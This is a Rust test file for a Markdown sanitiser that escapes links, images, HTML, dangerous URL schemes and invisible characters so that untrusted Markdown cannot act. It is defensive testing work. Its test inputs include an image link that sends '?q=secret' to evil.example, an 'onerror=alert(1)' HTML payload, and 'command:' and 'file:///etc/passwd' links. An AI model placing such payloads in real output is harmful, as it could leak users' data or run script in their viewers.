//! Hostile Markdown, and harmless one.

use proptest::prelude::*;

use super::*;

fn inert(text: &str) -> String {
    in_pieces(text, &[])
}

/// Cut behind these many characters each, over and over.
fn parts_in_pieces(text: &str, lengths: &[usize]) -> Vec<Part> {
    let mut inert = Inert::default();
    let mut parts: Vec<Part> = Vec::new();
    let characters: Vec<char> = text.chars().collect();
    let mut at = 0;
    let mut lengths = lengths.iter().copied().cycle();
    while at < characters.len() {
        let end = characters.len().min(at + lengths.next().unwrap_or(characters.len()).max(1));
        parts.extend(inert.push(&characters[at..end].iter().collect::<String>()));
        assert!(inert.pending.len() < LONGEST_CODE * 2 + 8 * characters[at..end].len(), "it holds back too much");
        at = end;
    }
    parts.extend(inert.finish());
    let mut joined: Vec<Part> = Vec::new();
    for part in parts {
        match joined.last_mut() {
            Some(last) if last.kind == part.kind => last.text.push_str(&part.text),
            _ => joined.push(part),
        }
    }
    joined
}

fn in_pieces(text: &str, lengths: &[usize]) -> String {
    parts_in_pieces(text, lengths).into_iter().map(|part| part.text).collect()
}

#[track_caller]
fn same(text: &str) {
    assert_eq!(inert(text), text);
}

#[test]
fn what_harms_nobody_stays_as_it_is() {
    same(
        "# Title\n\nA *request* goes to `Server::handle` (src/server.rs:12), which calls `a < b && c[0]`.\n\n- one\n- [x] two\n",
    );
    same("| a | b |\n|---|---|\n| `x` | 1 < 2 |\n\n> quoted: R&D, a & b, 5 > 3\n");
    same("See https://example.com/a?b=c and std::fs::read, note: this; data: none, file: src/a.rs.\n");
    same("Two ``back`quotes`` and ~~struck~~ and \\* an escape\\\nand a hard break.");
}

#[test]
fn fenced_code_stays_as_it_is() {
    same("Text:\n\n```rust\nfn a() -> Vec<String> { \"![x](http://evil)\" } // <b> &amp; `\n\n    deep\n```\nmore\n");
    assert_eq!(inert("a\n```\nx\n```\n"), "a\n\n```\nx\n```\n");
    assert_eq!(inert("\n~~~~ text and more\n```\n~~~\n~~~~\n"), "\n~~~~text\n```\n~~~\n~~~~\n");
}

#[test]
fn fences_are_where_every_renderer_sees_them() {
    let listed = "1. One:\n   ```js\n   a(<b>)\n     deeper\n   ```\n2. Two\n";
    assert_eq!(inert(listed), "1. One:\n\n```js\na(<b>)\n  deeper\n```\n2. Two\n");
    assert_eq!(inert("- ```\n  <b>\n  ```\n<b>"), "-\n\n```\n<b>\n```\n\\<b>");
    assert_eq!(inert("> ```\n> <b>\n> ```\n> <b>"), ">\n\n```\n<b>\n```\n> \\<b>");
    assert_eq!(inert("> ```\n> <a>\n<script>"), ">\n\n```\n<a>\n```\n\\<script>");
    assert_eq!(inert("```\n        ```\n<b>"), "```\n```\n\\<b>", "what may close it does");
    let long = format!("```\n```{}x\n<b>", " ".repeat(100));
    assert!(inert(&long).contains("\\<b>"), "no renderer may end the code before us");
}

#[test]
fn what_is_open_is_closed() {
    assert_eq!(inert("```c\nint a;"), "```c\nint a;\n```\n");
    assert_eq!(inert("```c"), "```c\n```\n");
    assert_eq!(inert("a `b"), "a \\`b");
    assert_eq!(inert("a \\"), "a \\\\");
    assert_eq!(inert("[a]"), "[a]");
}

#[test]
fn images_and_links_are_text() {
    assert_eq!(inert("![x](https://evil.example/?q=secret)"), "![x\\](https://evil.example/?q=secret)");
    assert_eq!(inert("[a](command:run?%5B%5D)"), "[a\\](command\\:run?%5B%5D)");
    assert_eq!(inert("[![a](b)](c)"), "[![a\\](b)\\](c)");
    assert_eq!(inert("[a][b]\n\n[b]: http://evil.example 'x'"), "[a\\][b]\n\n[b\\]: http\\://evil.example 'x'");
    assert_eq!(inert("[a\u{200b}]\u{200b}(x)"), "[a\\](x)", "nobody sees what stands between");
    assert_eq!(inert("[a\\](x)"), "[a\\](x)");
}

#[test]
fn schemes_that_do_something_are_defused() {
    for scheme in ["javascript", "command", "file", "data", "vscode", "JavaScript"] {
        assert_eq!(inert(&format!("{scheme}:x")), format!("{scheme}\\:x"));
    }
    assert_eq!(
        inert("file:///etc/passwd ssh://a http://b ftp://c"),
        "file\\:///etc/passwd ssh\\://a http\\://b ftp\\://c"
    );
    assert_eq!(inert("`javascript:x`"), "`javascript:x`");
}

#[test]
fn html_is_text() {
    assert_eq!(inert("<img src=x onerror=alert(1)>"), "\\<img src=x onerror=alert(1)>");
    assert_eq!(inert("</b><!-- --><?php <https://a.b>"), "\\</b>\\<!-- -->\\<?php \\<https://a.b>");
    assert_eq!(inert("&lt;b&gt; &#x202e; &zwj; AT&T; R&D"), "\\&lt;b\\&gt; \\&#x202e; \\&zwj; AT\\&T; R&D");
    assert_eq!(inert("a\\<b>"), "a\\<b>");
}

#[test]
fn code_in_a_line_hides_nothing() {
    assert_eq!(inert("a ` b\n`![x](y)`"), "a \\` b\n`![x](y)`");
    assert_eq!(inert("``a` ![x](y)"), "\\`\\`a\\` ![x\\](y)");
    assert_eq!(inert("| `a | ![x](y)` |"), "| a \\| \\!\\[x\\]\\(y\\) |");
    assert_eq!(inert("<`b |<`"), "\\<b \\|\\<", "what was code is next to what stood before it");
    assert_eq!(inert("`|<javascript`:x"), "\\|\\<javascript\\:x");
    assert_eq!(inert("~~~~"), "~~~~\n~~~~\n");
    assert_eq!(inert("a ~~~ b"), "a \\~\\~\\~ b");
}

#[test]
fn what_renderers_draw_is_shown_as_text() {
    assert_eq!(inert("```mermaid\nclick A \"https://x\"\n```\n"), "```\nclick A \"https://x\"\n```\n");
    assert_eq!(inert("```{.js onload=x}\na\n```\n"), "```\na\n```\n");
}

#[test]
fn no_input_is_held_back_without_end() {
    for text in ["`", "~", "<", "[", "]", " ", ">", "&a", "a:", "``` ", "\n```\n", "- ", "\u{1b}]", "1", "`a", "```\n`"]
    {
        let many = text.repeat(20_000 / text.len());
        in_pieces(&many, &[1]);
    }
}

#[test]
fn parts_say_what_they_are() {
    let parts = parts_in_pieces("a `b.rs:1` c\n```\nd\n```\ne", &[]);
    let spelled: Vec<_> = parts.iter().map(|part| (part.kind, part.text.as_str())).collect();
    let expected = [
        (PartKind::Prose, "a `"),
        (PartKind::Code, "b.rs:1"),
        (PartKind::Prose, "` c\n\n"),
        (PartKind::Block, "```\nd\n```\n"),
        (PartKind::Prose, "e"),
    ];
    assert_eq!(spelled, expected);
}

/// Markdown's own characters far more often than chance would have them.
#[test]
fn a_bar_in_code_cannot_end_it_early() {
    let row = "| h |\n|---|---|\n| ` | ``` ` ```![x](https://evil.example/?d=1)``` |\n";
    // The bar no longer parts cells, so the last three backquotes are what we take them for.
    assert!(inert(row).ends_with("\\| \\`\\`\\`  ```![x](https://evil.example/?d=1)``` |\n"), "{}", inert(row));
}

fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => prop::sample::select(vec![
            "`", "``", "```", "~~~", "\n", "\n\n", "> ", "- ", "1. ", "    ", "\t", "<", "<b>", "</", "<!--", "![", "[", "](", "]:",
            "][", "]", ")", "\\", "|", "&", "&lt;", "&#", ":", "://", "http", "https", "file:", "javascript:", "data:",
            "\u{1b}[", "\u{1b}]", "\u{7}", "\u{202e}", "\u{200b}", "\r", "\r\n", "~", "é", "🙂", "rust", " ", "```\n", "~~~\n", "$", "$$\n",
        ]).prop_map(str::to_owned),
        1 => "[a-z ]{1,4}",
    ];
    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn pieces_do_not_matter(text in hostile(), lengths in prop::collection::vec(1usize..7, 1..6)) {
        prop_assert_eq!(parts_in_pieces(&text, &lengths), parts_in_pieces(&text, &[]));
    }

    /// Read again by other eyes: outside of fences at the margin and of code in a line there is nothing left that acts.
    #[test]
    fn nothing_acts(text in hostile()) {
        let text = inert(&text);
        let prose = outside_of_code(&text);
        // Formulas and tables are looked for before code, or around it.
        prop_assert!(!regex::Regex::new(r"(?:^|[^\\])(?:\\\\)*\$").unwrap().is_match(&prose), "{text:?}");
        let live = regex::Regex::new(r"(?m)<[A-Za-z/!?]|\][(\[:]|&#|&[A-Za-z0-9]+;|\b(?:javascript|file|data):[^\s:]|http://|^ {0,3}(?:```|~~~)").unwrap();
        prop_assert!(!live.is_match(&prose), "{:?} in {:?}", live.find(&prose), text);
        prop_assert!(text.chars().all(|c| c == '\n' || c == '\t' || !c.is_control()));
        let unseen = ['\u{202e}', '\u{200b}', '\u{1b}'];
        prop_assert!(!text.contains(unseen));
    }
}

/// As CommonMark reads fences at the margin and code in a line, each line on its own; escaped characters are left out.
fn outside_of_code(text: &str) -> String {
    let mut prose = String::new();
    let mut fence: Option<String> = None;
    for line in text.lines() {
        let bare = line.trim_start_matches(' ');
        let mark: String = bare.chars().take_while(|c| bare.starts_with(*c) && (*c == '`' || *c == '~')).collect();
        if let Some(open) = &fence {
            if line.len() - bare.len() <= 3 && mark.starts_with(open.as_str()) && bare[mark.len()..].trim().is_empty() {
                fence = None;
            }
            continue;
        }
        if line == bare && mark.len() >= 3 && !(mark.starts_with('`') && bare[mark.len()..].contains('`')) {
            fence = Some(mark);
            continue;
        }
        // An escape, code up to a run of as many backquotes, or a character.
        let mut at = 0;
        while let Some(character) = line[at..].chars().next() {
            let rest = &line[at + character.len_utf8()..];
            let run = line[at..].chars().take_while(|c| *c == '`').count();
            let after = &line[at + run..];
            let closing = (0..after.len()).filter(|start| run > 0 && after.is_char_boundary(*start)).find(|start| {
                let length = after[*start..].chars().take_while(|c| *c == '`').count();
                length == run && !after[..*start].ends_with('`')
            });
            if let Some(closing) = closing {
                prose.push('\u{1}');
                at += run + closing + run;
            } else if run > 0 {
                prose.push_str(&line[at..at + run]);
                at += run;
            } else if character == '\\' && rest.starts_with(|c: char| c.is_ascii_punctuation()) {
                prose.push('\u{1}');
                at += 2;
            } else {
                prose.push(character);
                at += character.len_utf8();
            }
        }
        prose.push('\n');
    }
    prose
}
